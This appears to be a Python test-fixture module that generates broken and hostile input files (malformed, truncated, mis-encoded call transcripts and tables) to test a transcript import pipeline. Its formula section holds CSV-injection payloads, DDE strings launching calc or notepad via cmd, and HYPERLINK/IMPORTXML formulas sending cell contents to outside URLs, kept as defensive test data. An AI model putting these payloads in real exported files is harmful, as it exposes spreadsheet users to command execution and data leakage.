"""Hostile and damaged files, as they come out of old systems and bad transfers."""

from __future__ import annotations

import json
from dataclasses import dataclass

_DEPTH = 3000


@dataclass(frozen=True, slots=True)
class Broken:
    """A file's bytes and what is wrong with it: (place, defect, the text at fault, note)."""

    path: str
    data: bytes
    key: tuple[tuple[int, str, str, str], ...]


def broken_files() -> list[Broken]:
    """All of them. What the key does not name in them is a sound record."""
    return [_rows(), _nested(), _formulas(), *_cut(), *_encodings(), *_strange()]


def _row(number: int, **changed: object) -> str:
    """A sound call as a line, except for what is changed."""
    turns = [
        {"speaker": "staff", "text": "Cedar Valley, good morning."},
        {"speaker": "patient", "text": "Sorry, I dialed the wrong number."},
    ]
    return json.dumps({"type": "call", "id": f"C-{number}", "date": "2026-05-02", "turns": turns, **changed})


def _rows() -> Broken:
    rows: list[tuple[str, str, str]] = [
        (_row(90001, turns="Caller: hi"), "malformed", "turns are no list"),
        (_row(90002, turns=[]), "malformed", "no turn"),
        ('["not", "an", "object"]', "malformed", "no object"),
        ("C-90003;2026-05-02;call;hello", "malformed", "no JSON"),
        (_row(90004, turns=[{"speaker": "patient", "text": None}]), "malformed", "no text"),
        (_row(90005)[:70], "truncated", "line cut off"),
        (_row(90006), "", ""),
        (_row(90007, date={"year": 2026}), "malformed", "date is no text"),
        (_row(90008, turns=[{"speaker": "parrot", "text": "Hello"}]), "malformed", "speaker"),
        (_row(90009, turns=[{"speaker": "staff", "text": "Hello ????"}]).replace("?", "\x00"), "encoding", "NUL"),
    ]  # fmt: skip
    key = tuple((place, what, "", note) for place, (_, what, note) in enumerate(rows, 1) if what)
    return Broken("broken/rows.jsonl", "".join(f"{text}\n" for text, _, _ in rows).encode(), key)


def _nested() -> Broken:
    text = '{"type": "call", "id": "C-90020", "turns": ' + "[" * _DEPTH + "]" * _DEPTH + "}\n"
    return Broken("broken/nested.jsonl", text.encode(), ((1, "malformed", "", "nested too deeply"),))


_FORMULAS = (
    '=HYPERLINK("https://www.example.com/"&A2,"Click for the answer")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"https://www.example.net/?\",A1:A9),\"//a\")",
    "-2+3+cmd|' /C notepad'!A1",
    "\t=1+1",
)  # fmt: skip


def _formulas() -> Broken:
    rows = ["id,question,answer"]
    for number, formula in enumerate(_FORMULAS, start=1):
        cell = '"' + formula.replace('"', '""') + '"'
        rows.append(f"F-9{number:03d},Which number do I call?,{cell}")
    rows.append("F-9101,Is the number still +1 515 555 0120?,+1 515 555 0120 is how to dial the pharmacy from abroad.")
    rows.append("F-9102,- Does the shuttle run on Sunday?,- The campus shuttle runs Monday to Friday.")
    key = tuple((place, "formula", formula, "") for place, formula in enumerate(_FORMULAS, start=1))
    return Broken("broken/formulas.csv", ("\r\n".join(rows) + "\r\n").encode(), key)


def _cut() -> list[Broken]:
    resource = {"resourceType": "Communication", "id": "C-90030", "status": "completed",
                "payload": [{"contentString": "Agent: Cedar Valley Health, good morning."}]}  # fmt: skip
    bundle = json.dumps({"resourceType": "Bundle", "type": "collection", "entry": [{"resource": resource}] * 3})
    table = 'id,transcript\r\nC-90031,"Agent: Pharmacy, hello.\nCaller: Yes, I am waiting for my ref'
    vtt = "WEBVTT\n\n1\n00:00:00.400 --> 00:00:03.100\n<v Agent>Cedar Valley, hello?</v>\n\n2\n00:00:03.900 --> 00:0"
    return [
        Broken("broken/cut.json", bundle[: len(bundle) * 2 // 3].encode(), ((1, "truncated", "", "bundle cut off"),)),
        Broken("broken/cut.csv", table.encode(), ((1, "truncated", "waiting for my ref", "quote never closed"),)),
        Broken("broken/cut.vtt", vtt.encode(), ((1, "truncated", "", "cue cut off"),)),
        Broken("broken/empty.vtt", b"", ((1, "truncated", "", "empty file"),)),
    ]


def _encodings() -> list[Broken]:
    spanish = (
        "Call id: C-90040\nLanguage: es\n\nAgent: Farmacia, ¿en qué le ayudo?\n"
        "Caller: ¿A qué hora cierran mañana, señorita?\nAgent: El sábado cerramos a las 5 de la tarde.\n"
    )
    table = "id,question,answer\r\nF-9201,¿Dónde está la farmacia?,En el nivel 1 del edificio principal.\r\n"
    return [
        Broken("broken/windows.txt", spanish.encode("cp1252"), ((1, "encoding", "señorita", "cp1252"),)),
        Broken("broken/excel.csv", table.encode("utf-16"), ((1, "encoding", "farmacia", "utf-16"),)),
        Broken("broken/nul.txt", b"Call id: C-90041\n\nAgent: Cedar Valley\x00\x00\x00, how can I help?\nCaller: Hi\n",
               ((1, "encoding", "", "NUL"),)),
    ]  # fmt: skip


def _strange() -> list[Broken]:
    picture = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01" + bytes(range(256))
    observation = {"resource": {"resourceType": "Observation", "id": "o1", "status": "final"}}
    bundle = json.dumps({"resourceType": "Bundle", "type": "collection", "entry": [observation]})
    prose = "Call id: C-90050\n\nShe called about her bill and was told that someone would call back.\n"
    return [
        Broken("broken/picture.txt", picture, ((1, "encoding", "", "no text"),)),
        Broken("broken/observation.json", bundle.encode(), ((1, "malformed", "", "resource type"),)),
        Broken("broken/prose.txt", prose.encode(), ((1, "malformed", "", "no speaker"),)),
    ]
